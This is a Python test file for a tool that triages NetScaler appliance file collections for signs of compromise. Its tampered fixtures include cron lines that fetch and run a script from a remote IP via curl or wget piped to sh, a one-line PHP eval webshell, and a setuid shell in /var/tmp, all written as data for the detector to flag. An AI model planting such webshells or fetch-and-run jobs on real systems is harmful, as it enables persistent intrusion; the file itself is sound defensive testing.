"""Triage checks on constructed collections: a clean install and a tampered one."""

from __future__ import annotations

from pathlib import Path

import pytest

from ketenherstel.gateway.register import finding_id
from ketenherstel.gateway.triage import checkable, read_collection, tar_bytes, triage
from ketenherstel.gateway.watch import GatewayInputError

T = 1_750_000_000
CLEAN = {
    "listing.txt": (
        f"/var/netscaler/gui/admin_ui/php/index.php|root|wheel|644|{T}|{T}|1200\n"
        f"/netscaler/ns_gui/admin_ui/php/index.php|root|wheel|644|{T}|{T}|1200\n"
        f"/var/netscaler/logon/LogonPoint/index.html|root|wheel|644|{T}|{T}|800\n"
        f"/usr/bin/su|root|wheel|4755|{T}|{T}|20000\n"
        f"/var/tmp/build.log|nobody|nobody|644|{T}|{T}|10\n"
    ).encode(),
    "rc.netscaler": b"# start-up\nnsapimgr -ys call=ns_set_foo\n",
    "httpd.conf": (
        b"AddType application/x-httpd-php .php\nRequire all denied\nphp_flag engine off\n"
    ),
    "cron/tabs/root": b"SHELL=/bin/sh\n0 * * * * /netscaler/nsclfsyncd -v\n",
    "etc/crontab": b"SHELL=/bin/sh\n*/10 * * * * root /netscaler/nslog_rotate\n",
    "custom_checks.log": (
        b"===== Check script version 1.8.1 =====\n===== PHP files in /var/netscaler/ =====\n"
        b"\n===== Check for setuid shell at /var/tmp/sh =====\n"
        b"/var/tmp/sh does not exist or is not setuid.\n\nAll checks completed.\n"
    ),
}
TAMPERED = {
    "listing.txt": CLEAN["listing.txt"]
    + (
        f"/var/netscaler/logon/themes/x.php|nobody|nobody|644|{T - 90 * 86400}|{T}|300\n"
        f"/var/vpn/bookmark/y.xhtml|nobody|nobody|644|{T}|{T}|300\n"
        f"/var/tmp/sh|root|wheel|4755|{T}|{T}|100000\n"
        f"/var/core/3/NSPPE-00-123.gz|root|wheel|644|{T}|{T}|9999\n"
    ).encode(),
    "rc.netscaler": CLEAN["rc.netscaler"] + b"python -c 'import os' &\n",
    "httpd.conf": (
        b"AddType application/x-httpd-php .php .js\n#  Require all denied\n# php_flag engine off\n"
    ),
    "cron/tabs/nobody": b"*/5 * * * * /var/tmp/sh -c id\n",
    "cron/tabs/root": CLEAN["cron/tabs/root"] + b"0 3 * * * curl -s http://198.51.100.9/x | sh\n",
    "custom_checks.log": (
        b"===== Check script version 1.8.1 =====\n===== PHP files in /var/netscaler/ =====\n"
        b"-rw-r--r--  1 nobody  nobody  300 Jul  1 10:00 /var/netscaler/logon/themes/x.php\n"
        b"===== NSPPE core dumps (low confidence indicator) =====\n"
        b"-rw-r--r--  1 root  wheel  9999 Jul  1 10:00 /var/core/3/NSPPE-00-123.gz\n"
    ),
}


def write_dir(root: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return root


def test_a_clean_install_has_no_findings(tmp_path: Path) -> None:
    assert triage(read_collection(write_dir(tmp_path / "clean", CLEAN))) == []


def test_a_tampered_install_is_found_in_a_directory_and_a_tar(tmp_path: Path) -> None:
    from_dir = triage(read_collection(write_dir(tmp_path / "bad", TAMPERED)))
    tar = tmp_path / "collection.tar.gz"
    tar.write_bytes(tar_bytes(TAMPERED))
    from_tar = triage(read_collection(tar))
    rules = sorted(f.rule for f in from_dir)
    assert rules == sorted(f.rule for f in from_tar)
    assert rules.count("triage-script-in-web-dir") == 2
    assert rules.count("triage-suid") == 1  # /var/tmp/sh; /usr/bin/su is not under /var
    assert rules.count("triage-timestomp") == 1
    assert rules.count("triage-nsppe-core") == 1
    assert rules.count("triage-rc-netscaler") == 1
    assert rules.count("triage-httpd-php-extension") == 1
    assert rules.count("triage-httpd-protection-off") == 2
    assert rules.count("triage-cron-nobody") == 1 and rules.count("triage-cron-fetch") == 1
    ncsc = [f for f in from_dir if f.rule == "ncsc-nl-check"]
    assert [(f.confidence, f.title) for f in ncsc] == [
        ("high", "NCSC-NL check script: PHP files in /var/netscaler/"),
        ("low", "NCSC-NL check script: NSPPE core dumps (low confidence indicator)"),
    ]
    php = next(f for f in from_dir if f.rule == "triage-script-in-web-dir")
    where = (tmp_path / "bad" / "listing.txt").resolve()
    assert str(php.evidence[0]).startswith(f"{where}:") and "x.php" in php.detail
    # Another appliance's collection with the same files: its own evidence, its own findings
    # (the register's ids come from the evidence).
    other = triage(read_collection(write_dir(tmp_path / "other", TAMPERED)))
    assert not {finding_id(f) for f in other} & {finding_id(f) for f in from_dir}
    assert {finding_id(f) for f in from_tar}.isdisjoint(finding_id(f) for f in from_dir)


def test_unreadable_collections_are_named(tmp_path: Path) -> None:
    bad = tmp_path / "x.tar.gz"
    bad.write_bytes(b"not a tar")
    with pytest.raises(GatewayInputError, match="not a directory or a readable tar"):
        read_collection(bad)
    with pytest.raises(GatewayInputError):
        read_collection(tmp_path / "missing.tar")


def test_files_collected_from_the_appliance_and_the_system_crontab_are_checked(
    tmp_path: Path,
) -> None:
    """Not only the listing: a webshell collected as a file, a system crontab's job of nobody."""
    files = {
        "var/netscaler/logon/a.php": b"<?php eval($_POST[1]);?>",
        "netscaler/ns_gui/admin_ui/php/index.php": b"<?php // stock ?>",
        "etc/crontab": b"SHELL=/bin/sh\n*/5 * * * * nobody /var/tmp/x.sh\n@reboot root /bin/true\n",
        "etc/cron.d/update": b"0 4 * * * root wget -q http://198.51.100.9/u -O- | sh\n",
    }
    tar = tmp_path / "c2.tar.gz"
    tar.write_bytes(tar_bytes(files))
    found = triage(read_collection(tar))
    at = f"{tar.resolve()}!"  # a tar's member: the tar's path, !, the member's
    assert sorted((f.rule, str(f.evidence[0])) for f in found) == [
        ("triage-cron-fetch", f"{at}etc/cron.d/update:0"),
        ("triage-cron-nobody", f"{at}etc/crontab:14"),
        ("triage-script-in-web-dir", f"{at}var/netscaler/logon/a.php:0"),
    ]
    shell = next(f for f in found if f.rule == "triage-script-in-web-dir")
    assert "runs code" in shell.detail and shell.confidence == "high"
    assert checkable(read_collection(tar))
    (tmp_path / "empty").mkdir()
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "notes.txt").write_text("hello")
    assert checkable(read_collection(tmp_path / "empty")) == []
    assert checkable(read_collection(tmp_path / "other")) == []


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("listing.txt", b"-rw-r--r-- 1 root wheel 300 Jul  1 10:00 /var/x.php\n", "listing's"),
        ("listing.txt", b"path,owner,mode\n/var/x.php,root,644\n", "listing's format"),
        ("listing.txt", b"", "listing's format"),
        ("custom_checks.log", b"/var/netscaler/logon/themes/x.php\n", "NCSC-NL's check"),
        ("custom_checks.log", b"", "NCSC-NL's check script"),
    ],
)
def test_a_listing_or_import_with_no_readable_entry_is_refused_not_read_as_clean(
    tmp_path: Path, name: str, data: bytes, expected: str
) -> None:
    """A file in another format gave no findings, and so passed for a clean appliance."""
    files = {**CLEAN, name: data}
    with pytest.raises(GatewayInputError, match=expected) as refused:
        triage(read_collection(write_dir(tmp_path / "c", files)))
    assert str((tmp_path / "c" / name).resolve()) in str(refused.value)
    tar = tmp_path / "c.tar.gz"
    tar.write_bytes(tar_bytes(files))
    with pytest.raises(GatewayInputError, match=f"{tar.resolve()}!{name}"):
        triage(read_collection(tar))


def test_a_listing_with_some_lines_in_another_format_is_still_checked(tmp_path: Path) -> None:
    listing = b"total 12\n" + TAMPERED["listing.txt"] + b"find: /proc/1: Permission denied\n"
    found = triage(read_collection(write_dir(tmp_path / "c", {"listing.txt": listing})))
    assert {f.rule for f in found} >= {"triage-script-in-web-dir", "triage-suid"}


@pytest.mark.parametrize("cut", [300, -10])  # `head -c 300`; the gzip trailer cut off
def test_a_truncated_tar_gz_is_refused_not_read_in_part(tmp_path: Path, cut: int) -> None:
    whole = tar_bytes(TAMPERED)
    tar = tmp_path / "t.tar.gz"
    tar.write_bytes(whole[:cut])
    with pytest.raises(GatewayInputError, match=r"t\.tar\.gz: .*truncated or damaged"):
        read_collection(tar)


def test_a_plain_tar_cut_off_after_a_member_is_refused(tmp_path: Path) -> None:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as out:
        for name, data in TAMPERED.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
    whole = buf.getvalue()
    with tarfile.open(fileobj=io.BytesIO(whole)) as tar:
        last = tar.getmembers()[-1]
        end = last.offset_data + -(-last.size // tarfile.BLOCKSIZE) * tarfile.BLOCKSIZE
    cut = tmp_path / "cut.tar"
    cut.write_bytes(whole[:end])  # every member whole, the end-of-archive blocks gone
    with pytest.raises(GatewayInputError, match="truncated or damaged tar"):
        read_collection(cut)
    (tmp_path / "whole.tar").write_bytes(whole)
    assert len(read_collection(tmp_path / "whole.tar")) == len(TAMPERED)
